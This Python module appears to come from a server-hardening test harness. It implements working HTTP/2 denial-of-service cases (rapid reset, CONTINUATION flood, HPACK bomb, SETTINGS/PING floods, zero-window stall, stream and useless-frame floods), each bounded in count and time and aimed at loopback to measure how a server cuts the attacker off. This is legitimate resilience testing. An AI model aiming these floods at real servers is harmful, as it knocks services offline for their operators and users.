"""HTTP/2 attack cases: floods of cheap frames, header-compression abuse, stalled windows.

Each takes (port, quick) and returns the Cutoff: how the server cut the attacker off and
how much it accepted until then; bounded in count and in time, loopback only.
"""

from __future__ import annotations

import struct
import time

from hpack import Encoder

from harness.abuse.attacker import Cutoff, H2Attacker, get, send_until_cut
from harness.abuse.wire import (CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE,
                                PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, raw_frame, request_headers,
                                settings_payload)


def rapid_reset(port: int, quick: bool) -> Cutoff:
    pairs, seconds = (10_000, 8.0) if quick else (100_000, 60.0)
    enc = Encoder()
    first = enc.encode(get("/bytes/1024"))
    again = enc.encode(get("/bytes/1024"))  # identical after the first: all indexed

    def batches():
        batch, sid = 250, 1
        for start in range(0, pairs, batch):
            out = []
            for _ in range(min(batch, pairs - start)):
                out.append(raw_frame(HEADERS, END_HEADERS | END_STREAM, sid, first if sid == 1 else again))
                out.append(raw_frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL)))
                sid += 2
            yield b"".join(out), len(out)  # frames
    cut = send_until_cut(H2Attacker(port), list(batches()), seconds)
    cut.unit = "frames"
    return cut


def continuation_flood(port: int, quick: bool) -> Cutoff:
    frames, seconds = (10_000, 5.0) if quick else (100_000, 30.0)
    enc = Encoder()
    head = enc.encode(get("/healthz"))
    # each CONTINUATION: one new literal field (never indexed), ~1 KiB
    conts = [enc.encode([(f"x-c{i % 1000}", "v" * 1000)], huffman=False) for i in range(8)]

    def batches():
        yield raw_frame(HEADERS, END_STREAM, 1, head), 1
        for start in range(0, frames, 100):
            yield b"".join(raw_frame(CONTINUATION, 0, 1, conts[(start + i) % 8]) for i in range(100)), 100
    return send_until_cut(H2Attacker(port), batches(), seconds)


def hpack_bomb(port: int, quick: bool) -> Cutoff:
    streams, refs, seconds = (20, 10_000, 5.0) if quick else (200, 10_000, 30.0)
    # Static-table-only pseudo-headers (literals without indexing), so the dynamic table holds only
    # the bomb: one ~4 KiB entry (6 + 4000 + 32 <= 4096) inserted, then referenced (index 62) refs times.
    base = b"\x82\x86" + b"\x04\x08/healthz" + b"\x01\x09127.0.0.1"
    value = b"b" * 4000
    literal = b"\x40\x06x-bomb" + b"\x7f" + _int7(len(value) - 127) + value
    bomb_first = base + literal + b"\xbe" * refs
    bomb_next = base + b"\xbe" * refs

    def frames_for(block, sid):
        out = []
        chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        for i, c in enumerate(chunks):
            last = i == len(chunks) - 1
            if i == 0:
                out.append(raw_frame(HEADERS, END_STREAM | (END_HEADERS if last else 0), sid, c))
            else:
                out.append(raw_frame(CONTINUATION, END_HEADERS if last else 0, sid, c))
        return b"".join(out), len(out)

    batches = [frames_for(bomb_first, 1)] + [frames_for(bomb_next, 1 + 2 * i) for i in range(1, streams)]
    return send_until_cut(H2Attacker(port), batches, seconds)


def _int7(n: int) -> bytes:
    out = b""
    while n >= 128:
        out += bytes([(n % 128) + 128])
        n //= 128
    return out + bytes([n])


# The floods send until the server cuts them off, up to 1M frames: 100k ACKs (1.7 MB) fit in
# loopback's socket buffers, so at a flood of 100k the server never has to hold one, and a
# server that stops reading without closing would pass unnoticed. About 350k fill the buffers.
def settings_flood(port: int, quick: bool) -> Cutoff:
    count, seconds = (1_000_000, 5.0) if quick else (1_000_000, 30.0)
    frame = raw_frame(SETTINGS, 0, 0, settings_payload({INITIAL_WINDOW_SIZE: 65535}))
    batches = [(frame * 1000, 1000)] * (count // 1000)
    return send_until_cut(H2Attacker(port, read=False), batches, seconds, linger=2.0)


def ping_flood(port: int, quick: bool) -> Cutoff:
    count, seconds = (1_000_000, 5.0) if quick else (1_000_000, 30.0)
    frame = raw_frame(PING, 0, 0, b"12345678")
    batches = [(frame * 1000, 1000)] * (count // 1000)
    return send_until_cut(H2Attacker(port, read=False), batches, seconds, linger=2.0)


def zero_window(port: int, quick: bool) -> Cutoff:
    streams, hold = (100, 3.0) if quick else (100, 40.0)
    a = H2Attacker(port, settings={INITIAL_WINDOW_SIZE: 0})
    enc = Encoder()
    blocks = b"".join(raw_frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, enc.encode(get("/bytes/104857600")))
                      for i in range(streams))
    a.send(blocks, streams)
    deadline = time.monotonic() + hold
    while time.monotonic() < deadline and not a.stopped:
        time.sleep(0.05)
    cut = a.finish(0.2)
    cut.unit = "streams"
    if cut.goaway is None and not cut.closed:
        cut.note = f"held {hold:g} s"
    return cut


def stream_flood(port: int, quick: bool) -> Cutoff:
    streams, seconds = (2_000, 5.0) if quick else (10_000, 30.0)
    enc = Encoder()
    first = enc.encode(request_headers("/upload", "POST"))
    again = enc.encode(request_headers("/upload", "POST"))

    def batches():
        sid = 1
        for start in range(0, streams, 200):
            out = []
            for _ in range(200):
                out.append(raw_frame(HEADERS, END_HEADERS, sid, first if sid == 1 else again))
                sid += 2
            yield b"".join(out), 200
    cut = send_until_cut(H2Attacker(port), batches(), seconds, linger=1.0)
    cut.unit = "streams"
    return cut


def useless_frames(port: int, quick: bool) -> Cutoff:
    count, seconds = (20_000, 5.0) if quick else (100_000, 30.0)
    enc = Encoder()
    opener = raw_frame(HEADERS, END_HEADERS, 1, enc.encode(request_headers("/upload", "POST")))
    mix = (raw_frame(PRIORITY, 0, 3, b"\0\0\0\x01\x10") + raw_frame(DATA, 0, 1, b"")
           + raw_frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))
    batches = [(opener, 1)] + [(mix * 300, 900)] * (count // 900)
    return send_until_cut(H2Attacker(port), batches, seconds)
